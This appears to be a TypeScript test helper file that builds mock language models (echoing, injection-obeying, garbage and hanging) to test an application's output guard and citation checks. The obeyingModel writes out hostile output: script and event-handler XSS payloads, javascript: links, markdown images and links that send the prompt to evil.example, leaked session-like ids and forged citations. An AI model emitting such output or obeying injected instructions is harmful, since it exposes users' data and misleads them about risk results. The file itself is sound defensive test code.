import { MockLanguageModelV3 } from 'ai/test';
import { generatedText } from '../../llm/mock-language-model.ts';

type GenerateOptions = Parameters<MockLanguageModelV3['doGenerate']>[0];

/** Everything the model was shown, as one string: system prompt, passages, question or answer. */
export function promptText(options: GenerateOptions): string {
  return options.prompt
    .flatMap((message) =>
      typeof message.content === 'string'
        ? [message.content]
        : message.content.flatMap((part) => (part.type === 'text' ? [part.text] : [])),
    )
    .join('\n');
}

/** Passage ids the prompt offered (`<passage id="...">`): the only ones a model may cite. */
export function offeredPassageIds(prompt: string): string[] {
  return [...prompt.matchAll(/<passage id="([^"]+)"/g)].flatMap((match) => (match[1] ? [match[1]] : []));
}

/** Repeats its whole prompt: anything in the prompt that should not be there shows up in the reply. */
export function echoModel() {
  return new MockLanguageModelV3({ doGenerate: async (options) => generatedText(promptText(options)) });
}

/**
 * Does what the injection asks: claims scores and levels, cites a real offered passage beside
 * forged ones, injects script and HTML, links and images that would leak the prompt, names any
 * session-like id it saw, proposes an option the person never chose, and pads the output.
 */
export function obeyingModel() {
  return new MockLanguageModelV3({
    doGenerate: async (options) => {
      const prompt = promptText(options);
      // Asked to map an answer to an option: pick the last one, whatever the person wrote.
      if (prompt.includes('<answer>')) {
        const numbers = [...prompt.matchAll(/^(\d+)\. /gm)].map((match) => match[1]);
        return generatedText(numbers.at(-1) ?? '1, 2, 3, 4, 5');
      }
      const offered = offeredPassageIds(prompt)[0] ?? 'principles-lawfulness';
      const leak = encodeURIComponent(prompt.slice(0, 200));
      const sessionLike =
        /[A-Za-z0-9_-]{43}/.exec(prompt)?.[0] ?? 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
      // Every line cites the offered passage, so RAIA's check of citations keeps it: only the
      // output guard stands between these lines and the page.
      const cite = ` [${offered}]`;
      return generatedText(
        [
          `Overall risk level: LOW. Score 0/100. All principles satisfied [${offered}] [principles-fake] [9].`,
          `<script>alert(document.cookie)</script><img src=x onerror=alert(1)>${cite}`,
          `![status](https://evil.example/leak?data=${leak}) [More](https://evil.example/q?d=${leak})${cite}`,
          `See https://evil.example/p?d=${leak} and www.evil.example/x${cite}`,
          `[ref]: https://evil.example/ref\nOther session: ${sessionLike}${cite}`,
          `<a href="javascript:alert(2)" onclick="alert(3)">click</a>${cite}`,
          'x'.repeat(20_000),
        ].join('\n\n'),
      );
    },
  });
}

/** Returns noise: control characters, broken markup, lone surrogates and a huge blob. */
export function garbageModel() {
  let call = 0;
  const outputs = [
    '\u0000\u0007\ufffd\ud800 }{][ <<<>>> NOT_COVERED? [[[',
    '{"choices": [',
    '',
    `${'\u202e'.repeat(50)}${'💥'.repeat(5000)}`,
    'N'.repeat(200_000),
  ];
  return new MockLanguageModelV3({
    doGenerate: async () => generatedText(outputs[call++ % outputs.length] ?? ''),
  });
}

/** Never answers; settles only when the caller aborts (as a stalled provider connection does). */
export function hangingModel() {
  return new MockLanguageModelV3({
    doGenerate: (options) =>
      new Promise((_resolve, reject) => {
        const signal = options.abortSignal;
        if (signal === undefined) return;
        if (signal.aborted) reject(signal.reason);
        signal.addEventListener('abort', () => reject(signal.reason), { once: true });
      }),
  });
}
